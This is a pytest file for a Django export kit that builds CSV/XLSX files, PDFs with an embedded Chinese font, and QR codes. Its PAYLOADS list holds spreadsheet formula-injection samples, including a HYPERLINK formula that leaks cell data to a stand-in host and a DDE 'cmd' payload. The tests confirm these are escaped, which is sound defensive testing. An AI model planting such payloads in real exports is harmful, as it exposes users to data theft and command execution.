"""The documents kit: QR images, the embedded CJK font and PDFs, and the one csv/xlsx writer
that neutralises formula injection (OWASP CSV injection)."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy

from core import documents

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&E2,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\tleading tab",
    "\rleading return",
    "=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_escapes_every_formula_trigger(payload):
    assert documents.safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", [0, 42, -3, 1.5, -0.25, True, None, dt.date(2024, 5, 1), dt.datetime(2024, 5, 1, 8, 0)]
)
def test_safe_cell_keeps_numbers_dates_and_empty_cells(value):
    assert documents.safe_cell(value) == value and type(documents.safe_cell(value)) is type(value)


@pytest.mark.parametrize("text", ["张三", "310***********1234", "2024-05-01", "a=b", "", "—"])
def test_safe_cell_leaves_harmless_text_alone(text):
    assert documents.safe_cell(text) == text


def test_the_csv_writer_escapes_formulas_and_keeps_numbers():
    rows = [[p, 7, -1.5] for p in PAYLOADS]
    text = documents.csv_bytes(["姓名", "数", "值"], iter(rows)).decode("utf-8")
    assert text.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert read[0] == ["姓名", "数", "值"]
    for (name, n, v), payload in zip(read[1:], PAYLOADS, strict=True):
        assert name == "'" + payload and n == "7" and v == "-1.5"


def test_the_csv_stream_yields_in_chunks():
    chunks = list(documents.csv_stream(["a"], ([i] for i in range(1200)), flush_every=500))
    assert len(chunks) >= 4 and b"".join(chunks).count(b"\r\n") == 1201


def test_the_xlsx_writer_stores_formula_payloads_as_strings_never_formulas():
    sheet = documents.Sheet(title="名册", header=["=not a header formula", "数"], rows=[[p, 3] for p in PAYLOADS])
    wb = openpyxl.load_workbook(io.BytesIO(documents.xlsx_bytes([sheet])))
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [c.value for c in wb.active["A"]][1:]
    # XML turns a stored carriage return into a line feed on reading; the apostrophe stays first.
    assert names == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert wb.active["A1"].value == "'=not a header formula" and wb.active["A1"].font.b
    assert {c.value for c in wb.active["B"][1:]} == {3} and wb.active["B2"].data_type == "n"


def test_the_xlsx_writer_keeps_styles_widths_and_text_columns():
    sheet = documents.Sheet(
        title="概况",
        rows=[[documents.Styled("标题", bold=True, size=14)], ["率", documents.Styled(0.125, number_format="0.0%")]],
        widths={"A": 26},
        text_columns=["B"],
    )
    fh = documents.xlsx_file([sheet, documents.Sheet(title="第二页", rows=[["x"]])])
    wb = openpyxl.load_workbook(fh)
    ws = wb["概况"]
    assert ws["A1"].font.b and ws["A1"].font.sz == 14
    assert ws["B2"].value == 0.125 and ws["B2"].number_format == "0.0%"
    assert ws.column_dimensions["A"].width == 26 and ws.column_dimensions["B"].number_format == "@"
    assert wb.sheetnames == ["概况", "第二页"]


def test_headers_are_rendered_in_the_active_language():
    header = [gettext_lazy("姓名"), gettext_lazy("手机号码")]
    with translation.override("en"):
        english = documents.csv_bytes(header, []).decode("utf-8-sig").strip()
    with translation.override("zh-hans"):
        chinese = documents.csv_bytes(header, []).decode("utf-8-sig").strip()
    assert chinese == "姓名,手机号码" and english != chinese and "姓名" not in english


def test_a_pdf_made_with_the_kit_carries_chinese_text_in_the_embedded_font():
    from pypdf import PdfReader

    buf = io.BytesIO()
    c = documents.pdf_canvas(buf, title="测试文档", author="某市总工会")
    font = documents.register_cjk_font()
    c.setFont(font, 12)
    c.drawString(72, 720, "上海市总工会会员张三丰")
    documents.pdf_draw_qr(c, "http://testserver/x/", 72, 500, 100)
    c.showPage()
    c.save()
    pdf = buf.getvalue()
    assert b"/FontFile2" in pdf and b"/Helvetica" not in pdf
    reader = PdfReader(io.BytesIO(pdf))
    assert "上海市总工会会员张三丰" in reader.pages[0].extract_text()
    assert reader.metadata.title == "测试文档"


def test_qr_images_are_png_and_svg():
    from PIL import Image

    png = documents.qr_png("http://testserver/join/x/")
    assert png.startswith(b"\x89PNG") and Image.open(io.BytesIO(png)).size[0] >= 250
    svg = documents.qr_svg("http://testserver/join/x/").decode()
    assert svg.startswith("<svg") and "style=" not in svg
    inline = documents.qr_svg_inline("http://testserver/join/x/", title="扫码")
    assert inline.startswith("<svg") and "viewBox" in inline and "width=" not in inline.split(">")[0]


def test_the_vendored_font_is_small_licensed_and_documented():
    folder = documents.CJK_FONT_PATH.parent
    assert documents.CJK_FONT_PATH.stat().st_size < 3_000_000
    assert (folder / "OFL.txt").read_text().count("SIL OPEN FONT LICENSE Version 1.1") == 1
    assert "build_font.py" in (folder / "README.md").read_text()


def test_the_font_covers_gb2312_and_common_name_characters():
    from reportlab.pdfbase.ttfonts import TTFontFile

    face = TTFontFile(str(documents.CJK_FONT_PATH))
    for ch in "上海市总工会会员卡张王李赵欧阳娜喆堃玥（）：0123456789ABCxyz":
        assert ord(ch) in face.charToGlyph, ch
